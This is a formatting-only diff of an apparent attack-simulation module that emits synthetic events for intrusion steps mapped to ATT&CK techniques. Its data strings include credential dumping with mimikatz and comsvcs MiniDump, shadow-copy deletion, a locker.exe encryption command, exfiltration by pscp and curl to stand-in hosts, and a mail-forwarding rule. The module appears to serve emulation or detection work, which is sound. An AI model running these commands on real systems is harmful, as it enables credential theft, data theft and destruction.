@@ -67,7 +67,11 @@ class Player:
         """A host of a role; with care one that the provider (or this person) looks after, where there is one."""
         hosts, rng = self.estate.hosts, self.acts.rng
         members = [i for i in self.estate.by_role.get(str(role), []) if not hosts[i].linux or role == "linux"]
-        agreed = [i for i in members if i in (self.person.hosts if self.care >= IN_CHARACTER else self.provider.servers)]
+        agreed = [
+            i
+            for i in members
+            if i in (self.person.hosts if self.care >= IN_CHARACTER else self.provider.servers)
+        ]
         if self.care >= AGREED and agreed:
             members = agreed
         elif self.care >= AGREED and role != "controller":
@@ -112,7 +116,9 @@ def _login_vpn(p: Player, _: dict[str, object]) -> None:
         p.place = p.acts.outside(p.origin, p.person.client)
         return
     p.tunnel, p.place = p.acts.vpn(p.provider.spec.gateway, p.person, p.origin, mistyped=p.care == NOISY)
-    p.acts.deed(p.tunnel.hop, p.provider.spec.gateway, "logon", "VPN with a stolen password", "T1133", "login_vpn")
+    p.acts.deed(
+        p.tunnel.hop, p.provider.spec.gateway, "logon", "VPN with a stolen password", "T1133", "login_vpn"
+    )
     p.acts.done()
     if p.care == NOISY:
         p.place.client = "DESKTOP-9F2KQ1"
@@ -124,7 +130,9 @@ def _login_vpn(p: Player, _: dict[str, object]) -> None:
 @step("login_partner", "T1199 T1078.004", way_in=True)
 def _login_partner(p: Player, _: dict[str, object]) -> None:
     mfa = p.care >= AGREED
-    p.cloud, _session = p.acts.sign_in(p.person.upn, p.person.name, p.origin, p.provider.tenant_id, 0, mfa=mfa)
+    p.cloud, _session = p.acts.sign_in(
+        p.person.upn, p.person.name, p.origin, p.provider.tenant_id, 0, mfa=mfa
+    )
     p.acts.deed(p.cloud, p.cloud.target, "logon", "partner's sign-in", "T1199", "login_partner")
     p.acts.done()
 
@@ -133,7 +141,9 @@ def _login_partner(p: Player, _: dict[str, object]) -> None:
 def _assume_role(p: Player, _: dict[str, object]) -> None:
     name = p.person.upn.partition("@")[0] if p.care >= OFF_THE_LAND else "botocore-session-1"
     account = p.acts.rng.randrange(max(1, len(p.estate.aws)))
-    p.cloud, p.identity, p.aws = p.acts.assume(f"{p.provider.spec.name}-operations", name, p.origin, account=account, mfa=p.care >= AGREED)
+    p.cloud, p.identity, p.aws = p.acts.assume(
+        f"{p.provider.spec.name}-operations", name, p.origin, account=account, mfa=p.care >= AGREED
+    )
     p.acts.deed(p.cloud, p.cloud.target, "logon", "role taken", "T1199", "assume_role")
     p.acts.done()
 
@@ -169,14 +179,31 @@ def _command(p: Player, noisy: str, quiet: str) -> str:
 def _psexec(p: Player, options: dict[str, object]) -> None:
     command = str(options.get("command") or _command(p, rf"{S32}\cmd.exe /c whoami", rf"{S32}\hostname.exe"))
     service = "BTOBTO" if p.care == NOISY else "PSEXESVC"
-    p.acts.psexec(p.at.inside, _on(p, options.get("to"), "file"), p.who, [command], service=service, switch=p.switched, technique="T1569.002", name="psexec")
+    p.acts.psexec(
+        p.at.inside,
+        _on(p, options.get("to"), "file"),
+        p.who,
+        [command],
+        service=service,
+        switch=p.switched,
+        technique="T1569.002",
+        name="psexec",
+    )
     p.pause()
 
 
 @step("wmi", "T1047", "to command")
 def _wmi(p: Player, options: dict[str, object]) -> None:
     command = str(options.get("command") or rf"{S32}\tasklist.exe /svc")
-    p.acts.wmi(p.at.inside, _on(p, options.get("to"), "app"), p.who, [command], switch=p.switched, technique="T1047", name="wmi")
+    p.acts.wmi(
+        p.at.inside,
+        _on(p, options.get("to"), "app"),
+        p.who,
+        [command],
+        switch=p.switched,
+        technique="T1047",
+        name="wmi",
+    )
     p.pause()
 
 
@@ -189,28 +216,67 @@ def _winrm(p: Player, options: dict[str, object]) -> None:
 
 @step("ssh", "T1021.004", "to")
 def _ssh(p: Player, _: dict[str, object]) -> None:
-    p.acts.ssh(p.at.inside, p.host("linux"), p.who, ("/usr/bin/tar czf /tmp/logs.tgz /var/log/nginx",), switch=p.switched)
+    p.acts.ssh(
+        p.at.inside,
+        p.host("linux"),
+        p.who,
+        ("/usr/bin/tar czf /tmp/logs.tgz /var/log/nginx",),
+        switch=p.switched,
+    )
     p.pause()
 
 
 @step("schedule_task", "T1053.005", "to")
 def _task(p: Player, options: dict[str, object]) -> None:
-    task, command = _command(p, "SystemHealthMon", "maintenance-7"), _command(p, r"C:\PerfLogs\p.exe", rf"{S32}\gpupdate.exe /force")
-    p.acts.task(p.at.inside, _on(p, options.get("to"), "app"), p.who, task, command, switch=p.switched, technique="T1053.005", name="schedule_task")
+    task, command = (
+        _command(p, "SystemHealthMon", "maintenance-7"),
+        _command(p, r"C:\PerfLogs\p.exe", rf"{S32}\gpupdate.exe /force"),
+    )
+    p.acts.task(
+        p.at.inside,
+        _on(p, options.get("to"), "app"),
+        p.who,
+        task,
+        command,
+        switch=p.switched,
+        technique="T1053.005",
+        name="schedule_task",
+    )
     p.pause()
 
 
 @step("create_service", "T1543.003 T1021.002", "to")
 def _service(p: Player, options: dict[str, object]) -> None:
-    service, path = _command(p, "WinUpdSvc", "Updater4"), _command(p, r"C:\PerfLogs\svc.exe", r"C:\Install\updater.exe")
-    p.acts.service(p.at.inside, _on(p, options.get("to"), "app"), p.who, service, path, switch=p.switched, technique="T1543.003", name="create_service")
+    service, path = (
+        _command(p, "WinUpdSvc", "Updater4"),
+        _command(p, r"C:\PerfLogs\svc.exe", r"C:\Install\updater.exe"),
+    )
+    p.acts.service(
+        p.at.inside,
+        _on(p, options.get("to"), "app"),
+        p.who,
+        service,
+        path,
+        switch=p.switched,
+        technique="T1543.003",
+        name="create_service",
+    )
     p.pause()
 
 
 @step("map_admin_share", "T1021.002", "to")
 def _map(p: Player, options: dict[str, object]) -> None:
     paths = [("Shares", False), (r"Shares\Finance", False), (r"Shares\Research", False)]
-    p.acts.smb(p.at.inside, _on(p, options.get("to"), "file"), p.who, "C$", paths, switch=p.switched, technique="T1021.002", name="map_admin_share")
+    p.acts.smb(
+        p.at.inside,
+        _on(p, options.get("to"), "file"),
+        p.who,
+        "C$",
+        paths,
+        switch=p.switched,
+        technique="T1021.002",
+        name="map_admin_share",
+    )
     p.pause()
 
 
@@ -247,14 +313,24 @@ def _look(p: Player, _: dict[str, object]) -> None:
 def _dump(p: Player, _: dict[str, object]) -> None:
     quiet = rf"{S32}\rundll32.exe {S32}\comsvcs.dll, MiniDump 724 C:\Temp\w3wp.dmp full"
     command = _command(p, r"C:\PerfLogs\mimikatz.exe sekurlsa::logonpasswords exit", quiet)
-    p.acts.dump(p.at.host, p.at.account, p.at.tokens[0], command, p.at.hop, technique="T1003.001", name="dump_credentials")
+    p.acts.dump(
+        p.at.host,
+        p.at.account,
+        p.at.tokens[0],
+        command,
+        p.at.hop,
+        technique="T1003.001",
+        name="dump_credentials",
+    )
     p.pause(60, 400)
 
 
 @step("switch_credential", "T1078.002", "to")
 def _switch(p: Player, options: dict[str, object]) -> None:
     if options.get("to") == "service":
-        p.account = p.provider.services[0].account if p.provider.services else p.estate.administrators[0].account
+        p.account = (
+            p.provider.services[0].account if p.provider.services else p.estate.administrators[0].account
+        )
     else:
         p.account = p.estate.administrators[p.acts.rng.randrange(len(p.estate.administrators))].account
 
@@ -262,7 +338,9 @@ def _switch(p: Player, options: dict[str, object]) -> None:
 @step("kerberoast", "T1558.003")
 def _roast(p: Player, _: dict[str, object]) -> None:
     count = {NOISY: 40, OFF_THE_LAND: 10, AGREED: 4, IN_CHARACTER: 2}[p.care]
-    p.acts.weak_tickets(p.at.inside, p.at.host, p.who, p.at.hop, count, technique="T1558.003", name="kerberoast")
+    p.acts.weak_tickets(
+        p.at.inside, p.at.host, p.who, p.at.hop, count, technique="T1558.003", name="kerberoast"
+    )
     p.pause()
 
 
@@ -277,7 +355,16 @@ def _dcsync(p: Player, _: dict[str, object]) -> None:
 def _account(p: Player, options: dict[str, object]) -> None:
     controller = p.estate.hosts[p.at.host.controller]
     new = _command(p, "support_388945a0", f"n.joiner{p.acts.rng.randrange(900)}")
-    p.acts.new_account_on(p.at.inside, controller, p.who, new, group=str(options.get("group", "Domain Admins")), switch=p.switched, technique="T1136.002", name="add_account")
+    p.acts.new_account_on(
+        p.at.inside,
+        controller,
+        p.who,
+        new,
+        group=str(options.get("group", "Domain Admins")),
+        switch=p.switched,
+        technique="T1136.002",
+        name="add_account",
+    )
     p.pause()
 
 
@@ -297,7 +384,9 @@ def _stage(p: Player, _: dict[str, object]) -> None:
 def _copy(p: Player, options: dict[str, object]) -> None:
     size = int(str(options.get("megabytes", 800))) * 1_000_000
     quiet = rf"{S32}\curl.exe -T C:\Temp\logs.7z https://support.vendor.example/upload"
-    command = _command(p, rf"C:\PerfLogs\pscp.exe -P 443 -batch C:\PerfLogs\s.part01.rar w@{DROP}:/in/", quiet)
+    command = _command(
+        p, rf"C:\PerfLogs\pscp.exe -P 443 -batch C:\PerfLogs\s.part01.rar w@{DROP}:/in/", quiet
+    )
     address = DROP if p.care < AGREED else SITES[3][1].decode()
     p.acts.sent(p.at, address, size, command, technique="T1048.002", name="copy_out")
     p.pause()
@@ -313,27 +402,41 @@ def _beacon(p: Player, options: dict[str, object]) -> None:
 
 @step("clear_log", "T1070.001")
 def _clear(p: Player, _: dict[str, object]) -> None:
-    p.acts.clear_log(p.at.host, p.at.account, p.at.tokens[0], p.at.hop, technique="T1070.001", name="clear_log")
+    p.acts.clear_log(
+        p.at.host, p.at.account, p.at.tokens[0], p.at.hop, technique="T1070.001", name="clear_log"
+    )
     p.pause()
 
 
 @step("stop_sensor", "T1562.001")
 def _stop(p: Player, _: dict[str, object]) -> None:
-    p.acts.stop_sensor(p.at.host, p.at.account, p.at.tokens[0], p.at.hop, technique="T1562.001", name="stop_sensor")
+    p.acts.stop_sensor(
+        p.at.host, p.at.account, p.at.tokens[0], p.at.hop, technique="T1562.001", name="stop_sensor"
+    )
     p.pause()
 
 
 @step("remove_backups", "T1490", "to")
 def _backups(p: Player, options: dict[str, object]) -> None:
     command = rf"{S32}\vssadmin.exe delete shadows /all /quiet"
-    p.acts.wmi(p.at.inside, _on(p, options.get("to"), "file"), p.who, [command], switch=p.switched, technique="T1490", name="remove_backups")
+    p.acts.wmi(
+        p.at.inside,
+        _on(p, options.get("to"), "file"),
+        p.who,
+        [command],
+        switch=p.switched,
+        technique="T1490",
+        name="remove_backups",
+    )
 
 
 @step("encrypt", "T1486", "hosts")
 def _encrypt(p: Player, options: dict[str, object]) -> None:
     command = _command(p, r"C:\PerfLogs\locker.exe -all", r"C:\Install\updater.exe /s")
     for _ in range(int(str(options.get("hosts", 5)))):
-        p.acts.psexec(p.at.inside, p.host("app"), p.who, [command], switch=p.switched, technique="T1486", name="encrypt")
+        p.acts.psexec(
+            p.at.inside, p.host("app"), p.who, [command], switch=p.switched, technique="T1486", name="encrypt"
+        )
 
 
 # clouds
@@ -348,31 +451,67 @@ def _cloud(p: Player) -> TrueHop:
 
 @step("consent_app", "T1098.001 T1550.001")
 def _consent(p: Player, _: dict[str, object]) -> None:
-    target: dict[str, object] = {"type": "ServicePrincipal", "displayName": _command(p, "Mail Backup Pro", "Graph Reporting")}
-    p.acts.directory(_cloud(p), p.person.upn, p.origin, "Consent to application", "ApplicationManagement", [target], technique="T1098.001", name="consent_app")
+    target: dict[str, object] = {
+        "type": "ServicePrincipal",
+        "displayName": _command(p, "Mail Backup Pro", "Graph Reporting"),
+    }
+    p.acts.directory(
+        _cloud(p),
+        p.person.upn,
+        p.origin,
+        "Consent to application",
+        "ApplicationManagement",
+        [target],
+        technique="T1098.001",
+        name="consent_app",
+    )
 
 
 @step("add_credential", "T1098.001")
 def _credential(p: Player, _: dict[str, object]) -> None:
     target: dict[str, object] = {"type": "ServicePrincipal", "displayName": "Graph Reporting"}
-    p.acts.directory(_cloud(p), p.person.upn, p.origin, "Add service principal credentials", "ApplicationManagement", [target], technique="T1098.001", name="add_credential")
+    p.acts.directory(
+        _cloud(p),
+        p.person.upn,
+        p.origin,
+        "Add service principal credentials",
+        "ApplicationManagement",
+        [target],
+        technique="T1098.001",
+        name="add_credential",
+    )
 
 
 @step("mailbox_rule", "T1114.003 T1564.008")
 def _rule(p: Player, _: dict[str, object]) -> None:
-    more: dict[str, object] = {"ObjectId": f"user{p.acts.rng.randrange(900)}", "Parameters": [{"Name": "ForwardTo", "Value": "archive@mail.example"}]}
-    p.acts.office(_cloud(p), p.person.upn, p.origin, "New-InboxRule", more, technique="T1114.003", name="mailbox_rule")
+    more: dict[str, object] = {
+        "ObjectId": f"user{p.acts.rng.randrange(900)}",
+        "Parameters": [{"Name": "ForwardTo", "Value": "archive@mail.example"}],
+    }
+    p.acts.office(
+        _cloud(p), p.person.upn, p.origin, "New-InboxRule", more, technique="T1114.003", name="mailbox_rule"
+    )
 
 
 @step("read_mail", "T1114.002", "times")
 def _mail(p: Player, options: dict[str, object]) -> None:
     for _ in range(int(str(options.get("times", 12)))):
         more: dict[str, object] = {"ObjectId": f"user{p.acts.rng.randrange(900)}"}
-        p.acts.office(_cloud(p), p.person.upn, p.origin, "MailItemsAccessed", more, technique="T1114.002", name="read_mail")
+        p.acts.office(
+            _cloud(p),
+            p.person.upn,
+            p.origin,
+            "MailItemsAccessed",
+            more,
+            technique="T1114.002",
+            name="read_mail",
+        )
 
 
 def _call(p: Player, service: str, name: str, technique: str, step_: str, *, read: bool = False) -> None:
-    p.acts.call(_cloud(p), p.identity, p.aws, p.origin, service, name, read_only=read, technique=technique, step=step_)
+    p.acts.call(
+        _cloud(p), p.identity, p.aws, p.origin, service, name, read_only=read, technique=technique, step=step_
+    )
 
 
 @step("create_access_key", "T1098.001")
